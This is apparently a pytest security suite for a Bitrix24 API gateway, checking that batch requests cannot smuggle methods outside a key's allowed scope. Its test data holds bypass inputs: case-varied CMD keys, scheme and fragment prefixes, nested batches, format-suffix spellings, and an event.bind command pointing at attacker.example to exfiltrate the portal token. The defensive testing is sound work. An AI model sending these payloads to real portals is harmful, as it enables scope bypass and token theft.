"""Method scopes through ``batch``: a key limited to some methods runs no other method by
hiding it in a batch the way Bitrix24 would read it (issue 10, item 1).

Each attack is the hostile client's request, sent every way a batch reaches the gateway:
``/api/v1/call``, ``/rest/batch`` as JSON and as a form, and ``/api/v1/batch``. What the
user would notice is asserted: the client gets 400 or 403, and nothing reached the
sandbox (its request counter did not move), so the forbidden method never ran there.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from typing import Any

import httpx
import pytest

from b24gate.testing import build_php_query

from .conftest import Stack

Send = Callable[[Stack, str, dict[str, Any]], Awaitable[httpx.Response]]

HANDLER = "https://attacker.example/hook"
EVENT_BIND = f"event.bind?event=ONCRMDEALADD&handler={HANDLER}"


async def via_call(stack: Stack, key: str, params: dict[str, Any]) -> httpx.Response:
    return await stack.call(key, {"method": "batch", "params": params})


async def via_rest_json(stack: Stack, key: str, params: dict[str, Any]) -> httpx.Response:
    return await stack.http.post("/rest/batch", json={**params, "auth": key})


async def via_rest_form(stack: Stack, key: str, params: dict[str, Any]) -> httpx.Response:
    form = build_php_query({**params, "auth": key})
    return await stack.http.post(
        "/rest/batch.json",
        content=form.encode(),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )


ROUTES: dict[str, Send] = {
    "/api/v1/call": via_call,
    "/rest/batch json": via_rest_json,
    "/rest/batch form": via_rest_form,
}

# (the key's method patterns, the batch's parameters, the refusal: "forbidden" or "invalid")
ATTACKS: dict[str, tuple[tuple[str, ...], dict[str, Any], str]] = {
    "upper-case CMD": (("crm.*",), {"CMD": {"a": "user.get"}}, "forbidden"),
    "mixed-case Cmd": (("crm.*",), {"Cmd": ["crm.deal.list", "user.get?ID=1"]}, "forbidden"),
    "an allowed cmd and a later forbidden Cmd": (
        ("crm.*",),
        {"cmd": {"a": "crm.deal.list"}, "Cmd": {"a": "user.get"}},
        "invalid",
    ),
    "halt twice": (("crm.*",), {"cmd": {"a": "crm.deal.list"}, "halt": 0, "HALT": 1}, "invalid"),
    "a scheme before the method": (("crm.*",), {"cmd": {"a": "crm.x:user.get"}}, "invalid"),
    "a fragment after the method": (("*.list",), {"cmd": {"a": "crm.deal.add#.list"}}, "invalid"),
    "a fragment after the query": (
        ("*.list",),
        {"cmd": {"a": "crm.deal.add?fields[TITLE]=x#.list"}},
        "invalid",
    ),
    "a host before the method": (("crm.*",), {"cmd": {"a": "//crm.portal/user.get"}}, "invalid"),
    "a space before the method": (("crm.*",), {"cmd": {"a": " user.get"}}, "invalid"),
    "a nested batch": (("crm.*",), {"cmd": {"a": "batch?cmd[b]=user.get"}}, "invalid"),
    "a command that is no string": (("crm.*",), {"cmd": {"a": ["user.get"]}}, "invalid"),
    "event.bind under CMD": (("crm.*",), {"CMD": {"a": EVENT_BIND}}, "forbidden"),
    "event.bind behind a scheme": (("crm.*",), {"cmd": {"a": f"crm.x:{EVENT_BIND}"}}, "invalid"),
    # Bitrix24 may drop a final `.json` / `.xml` as the answer's format: `user.current.json`
    # would be checked against `*.json` and run as `user.current`.
    "a command ending in .json": (
        ("crm.*", "*.json"),
        {"cmd": {"a": "user.current.json"}},
        "invalid",
    ),
    "a command ending in .XML": (("crm.*", "*.xml"), {"cmd": {"a": "user.current.XML"}}, "invalid"),
    "a nested batch.json": (
        ("crm.*", "*.json"),
        {"cmd": {"a": "batch.json?cmd[b]=user.current"}},
        "invalid",
    ),
}


def assert_refused(response: httpx.Response, route: str, refusal: str) -> None:
    status = 403 if refusal == "forbidden" else 400
    assert response.status_code == status, response.text
    body = response.json()
    if route == "/api/v1/call":
        assert body["code"] == ("method_forbidden" if refusal == "forbidden" else "invalid_batch")
    else:
        assert body["error"] == ("ACCESS_DENIED" if refusal == "forbidden" else "INVALID_REQUEST")


@pytest.mark.parametrize("route", list(ROUTES))
@pytest.mark.parametrize("attack", list(ATTACKS))
async def test_a_forbidden_method_never_runs_through_batch(
    connected: tuple[Stack, str], route: str, attack: str
) -> None:
    stack, _ = connected
    patterns, params, refusal = ATTACKS[attack]
    key = await stack.add_client("hostile", methods=patterns)
    before = await stack.counters()
    response = await ROUTES[route](stack, key, params)
    assert_refused(response, route, refusal)
    after = await stack.counters()
    assert after["rest_calls"] == before["rest_calls"]  # nothing reached the portal
    assert len(stack.sandbox.portal.tables["crm.deal"].records) == 0


@pytest.mark.parametrize("route", list(ROUTES))
async def test_the_same_routes_run_an_allowed_batch(
    connected: tuple[Stack, str], route: str
) -> None:
    """The control: each route does forward a batch the key may send, rebuilt as checked."""
    stack, _ = connected
    key = await stack.add_client("crm", methods=("crm.*",))
    params = {
        "HALT": 1,
        "CMD": {
            "add": "crm.deal.add?fields[TITLE]=a%3Ab",
            "get": "crm.deal.get?id=$result[add]",
        },
    }
    response = await ROUTES[route](stack, key, params)
    assert response.status_code == 200, response.text
    body = response.json()
    inner = body["data"]["result"] if route == "/api/v1/call" else body["result"]
    assert inner["result"]["get"]["TITLE"] == "a:b"


async def test_the_event_handler_url_never_reaches_the_portal(
    connected: tuple[Stack, str],
) -> None:
    """``event.bind`` would have Bitrix24 send the portal's token to the attacker's URL."""
    stack, _ = connected
    key = await stack.add_client("hostile", methods=("crm.*",))
    for params in (
        {"CMD": {"a": EVENT_BIND}},
        {"cmd": {"a": "crm.deal.list"}, "cMd": {"a": EVENT_BIND}},
        {"cmd": [f"crm.deal.list:{EVENT_BIND}", f"crm.x:{EVENT_BIND}"]},
    ):
        for send in ROUTES.values():
            assert (await send(stack, key, params)).status_code in (400, 403)
    urls = (await stack.control.get("/_sandbox/received")).json()["urls"]
    assert not any("batch" in url or "event" in url for url in urls)
    assert (await stack.counters())["batches"] == 0


async def test_bulk_commands_are_checked_the_same_way(connected: tuple[Stack, str]) -> None:
    stack, _ = connected
    key = await stack.add_client("hostile", methods=("crm.*",))
    before = await stack.counters()
    for commands, status, code in (
        ([{"method": "batch", "params": {"CMD": {"a": "user.get"}}}], 400, "invalid_request"),
        ([{"method": "BATCH", "params": {"cmd": {"a": "crm.deal.list"}}}], 400, "invalid_request"),
        ([{"method": "crm.x:user.get"}], 400, "invalid_method"),
        ([{"method": "crm.deal.add#.list"}], 400, "invalid_method"),
        ([{"method": "crm.deal.list"}, {"method": "event.bind"}], 403, "method_forbidden"),
    ):
        response = await stack.http.post(
            "/api/v1/batch",
            json={"commands": commands},
            headers={"Authorization": f"Bearer {key}"},
        )
        assert response.status_code == status, response.text
        assert response.json()["code"] == code
    assert (await stack.counters())["rest_calls"] == before["rest_calls"]


async def test_rest_3_batch_is_refused(connected: tuple[Stack, str]) -> None:
    """REST 3.0's batch carries commands in a shape the gateway does not read: refused."""
    stack, _ = connected
    key = await stack.add_client("hostile", methods=("crm.*",))
    before = await stack.counters()
    for body in (
        {"auth": key, "cmd": {"a": "user.get"}},
        {"auth": key, "commands": [{"method": "user.get"}]},
    ):
        response = await stack.http.post("/rest/api/batch", json=body)
        assert response.status_code == 400, response.text
        assert response.json()["error"]["code"] == "INVALID_REQUEST"
    assert (await stack.counters())["rest_calls"] == before["rest_calls"]


# Method names Bitrix24 runs as `batch`: its REST entry point drops a final `.json` or `.xml`
# of any case (the answer's format) and lower-cases the rest.
BATCH_SPELLINGS = ["batch.json", "BATCH.JSON", "Batch.Json", "batch.xml", "batch.json.json"]


async def test_a_batch_spelled_with_a_format_suffix_is_no_other_method(
    connected: tuple[Stack, str],
) -> None:
    """A key allowed ``crm.*`` and ``*.json`` sends ``batch.json`` (or ``/rest/batch.json.json``)
    with a forbidden command: checked as a method ``batch.json`` it would pass, and Bitrix24
    would run ``batch`` and the command in it. Refused everywhere; nothing reaches the portal."""
    stack, _ = connected
    key = await stack.add_client("hostile", methods=("crm.*", "*.json", "*.JSON", "*.xml"))
    auth = {"Authorization": f"Bearer {key}"}
    cmd = {"a": "user.current"}
    before = await stack.counters()
    for method in BATCH_SPELLINGS:
        answer = await stack.call(key, {"method": method, "params": {"cmd": cmd}})
        assert answer.status_code == 400, (method, answer.text)
        assert answer.json()["code"] == "invalid_method"
        bulk = await stack.http.post(
            "/api/v1/batch",
            json={"commands": [{"method": method, "params": {"cmd": cmd}}]},
            headers=auth,
        )
        assert bulk.status_code == 400, (method, bulk.text)
        assert bulk.json()["code"] == "invalid_method"
    for path in (
        "/rest/batch.json.json",
        "/rest/batch.JSON.json",
        "/rest/batch.xml.json",
        "/rest/api/batch.json.json",
        "/rest/user.current.json.json",
    ):
        answer = await stack.http.post(path, json={"auth": key, "cmd": cmd})
        assert answer.status_code in (400, 404), (path, answer.text)
    # One `.json`, any case, is the format Bitrix24 clients send: the method is `batch`,
    # and its command is checked, and forbidden.
    for path in ("/rest/batch.JSON", "/rest/batch.Json"):
        answer = await stack.http.post(path, json={"auth": key, "cmd": cmd})
        assert answer.status_code == 403, (path, answer.text)
        assert answer.json()["error"] == "ACCESS_DENIED"
    after = await stack.counters()
    assert after["rest_calls"] == before["rest_calls"]  # user.current never ran
    assert after["batches"] == before["batches"]
